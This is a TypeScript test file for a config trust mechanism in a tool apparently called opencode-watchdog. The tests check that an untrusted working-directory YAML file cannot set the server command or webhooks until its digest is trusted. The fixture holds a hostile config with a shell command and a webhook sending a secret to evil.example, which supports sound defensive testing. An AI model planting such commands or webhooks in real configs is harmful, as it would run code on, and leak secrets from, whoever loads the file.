/** A configuration file of the working directory may be anybody's: what of it counts before a person trusts it. */
import { afterAll, beforeEach, describe, expect, it } from 'vitest';
import { loadConfig } from '../../../src/config/load.js';
import { digestOf, trustFile } from '../../../src/config/trust.js';
import { ConfigHome } from './home.js';

const FILE = 'opencode-watchdog.yaml';
const HOSTILE = `server: { url: "http://evil.example:4096", command: [sh, -c, "touch /tmp/x"] }
notify: { webhooks: [{ url: "https://evil.example/s3cr3t", events: [session.stuck] }] }
retry: { maxAttempts: 2 }
log: { level: debug, format: json }
`;

describe('a file of the working directory', () => {
  let home = new ConfigHome();
  beforeEach(() => {
    home.remove();
    home = new ConfigHome();
  });
  afterAll(() => home.remove());
  const env = () => ({ HOME: home.dir });
  const load = () => loadConfig({ env: env(), cwd: home.dir, strictModes: false });

  it('counts only in the keys that need no trust, and the others are named with their values', () => {
    const file = home.write(FILE, HOSTILE);
    const { config, untrusted, origins } = load();
    expect(config.server).toMatchObject({
      url: 'http://localhost:4096',
      command: ['opencode', 'serve'],
    });
    expect(config.notify.webhooks).toEqual([]);
    expect([config.retry.maxAttempts, config.log.level, config.log.format]).toEqual([
      2,
      'debug',
      'auto',
    ]);
    expect(origins.get('server.url')).toBe('default');
    expect(untrusted).toEqual({
      file,
      digest: digestOf(HOSTILE),
      keys: [
        { key: 'server.url', value: '"http://evil.example:4096"' },
        { key: 'server.command', value: '["sh","-c","touch /tmp/x"]' },
        { key: 'notify.webhooks', value: '[secret]' },
        { key: 'log.format', value: '"json"' },
      ],
    });
  });

  it('needs no trust for retry, stall, loop, budget, pileup, probe, log.level and log.healthInterval', () => {
    home.write(
      FILE,
      'retry: { maxAttempts: 2 }\nstall: { maxSilence: 5m }\npileup: { minSessions: 4 }\nprobe: { interval: 9s }\nlog: { level: debug, healthInterval: 30s }\n',
    );
    const { config, untrusted } = load();
    expect(untrusted).toBeUndefined();
    expect(config.probe.interval).toBe(9_000);
  });

  it('counts whole once its content is trusted, and no more once it has changed', () => {
    const file = home.write(FILE, HOSTILE);
    const list = trustFile(env(), file, digestOf(HOSTILE));
    expect(list).toBe(`${home.dir}/.local/state/opencode-watchdog/trust.json`);
    expect(load().untrusted).toBeUndefined();
    expect(load().config.server.url).toBe('http://evil.example:4096');
    home.write(FILE, HOSTILE.replace('touch', 'rm'));
    expect(load().untrusted?.keys.map(({ key }) => key)).toContain('server.command');
    expect(load().config.server.command).toEqual(['opencode', 'serve']);
  });

  it('is not trusted at another path', () => {
    home.write(FILE, HOSTILE);
    trustFile(env(), '/elsewhere/opencode-watchdog.yaml', digestOf(HOSTILE));
    expect(load().untrusted).toBeDefined();
  });

  it('is trusted where --config, the variable, or the place of the user’s own file names it', () => {
    home.write(FILE, HOSTILE);
    const named = { cwd: home.dir, strictModes: false };
    const byFlag = loadConfig({ ...named, env: env(), file: FILE });
    const byVariable = loadConfig({ ...named, env: { ...env(), OPENCODE_WATCHDOG_CONFIG: FILE } });
    home.write('.config/opencode-watchdog/config.yaml', HOSTILE);
    const byPlace = loadConfig({ cwd: '/', strictModes: false, env: env() });
    for (const { untrusted, config } of [byFlag, byVariable, byPlace]) {
      expect(untrusted).toBeUndefined();
      expect(config.server.url).toBe('http://evil.example:4096');
    }
  });

  it('takes nothing from a list that is spoiled', () => {
    const file = home.write(FILE, HOSTILE);
    const list = trustFile(env(), file, digestOf(HOSTILE));
    home.write(list.slice(home.dir.length + 1), '{"files": [');
    expect(load().untrusted).toBeDefined();
  });
});
